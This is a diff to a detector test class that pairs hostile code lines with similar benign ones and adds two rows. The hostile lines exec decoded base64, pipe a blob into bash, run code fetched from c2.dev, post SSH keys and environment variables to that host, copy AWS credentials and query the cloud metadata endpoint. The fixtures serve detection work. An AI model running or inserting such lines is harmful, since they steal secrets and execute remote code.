@@ -24,10 +24,12 @@ class BehaviourDetectorTest {
           backdoor/decoded-code § exec(base64.b64decode(BLOB)) § json.loads(base64.b64decode(BLOB))
           backdoor/decoded-code § eval(codecs.decode(TEXT, "rot13")) § print(codecs.decode(TEXT, "rot13"))
           backdoor/decoded-command § os.system(bytes.fromhex(BLOB).decode()) § save(bytes.fromhex(BLOB).decode())
+          backdoor/decoded-command § subprocess.run(["bash"], input=base64.b64decode(BLOB)) § subprocess.run(["docker", "login"], input=base64.b64decode(BLOB))
           backdoor/remote-code § exec(requests.get("https://c2.dev/p").text) § parse(requests.get("https://c2.dev/p").text)
           backdoor/remote-command § os.system(requests.get(URL).text) § subprocess.run(["git", "clone", requests.get(URL).text])
           exfiltration/secrets § requests.post("https://c2.dev/k", data=open("/root/.ssh/id_rsa").read()) § requests.post("https://api.dev/k", data=open("/srv/report.txt").read())
           exfiltration/secrets § requests.post("https://c2.dev/k", json=dict(os.environ)) § requests.post("https://api.dev/k", json={"key": os.environ["API_KEY"]})
+          exfiltration/secrets § requests.post("https://c2.dev/k", json=[n for n in os.environ]) § requests.post("https://c2.dev/k", json=p if "KEY" in os.environ else x)
           exfiltration/secrets-leave § requests.post(target, json=dict(os.environ)) § requests.post(target, json=body)
           exfiltration/secrets-collected § open("/tmp/.cache", "w").write(open("/root/.aws/credentials").read()) § open("/srv/out.txt", "w").write(open("/root/.aws/credentials").read())
           exfiltration/cloud-metadata § requests.get("http://169.254.169.254/latest/meta-data/") § BLOCKED = ["http://169.254.169.254/latest"]
